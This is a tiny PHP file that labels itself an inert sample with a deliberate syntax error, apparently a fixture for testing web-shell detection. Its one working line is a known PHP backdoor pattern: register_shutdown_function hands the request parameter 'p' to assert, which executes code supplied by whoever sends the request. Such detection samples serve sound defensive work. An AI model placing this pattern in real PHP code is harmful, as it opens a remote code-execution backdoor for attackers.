<?php
shodo inert sample: deliberate syntax error, this file never runs
 register_shutdown_function('assert', $_REQUEST['p']); ?>
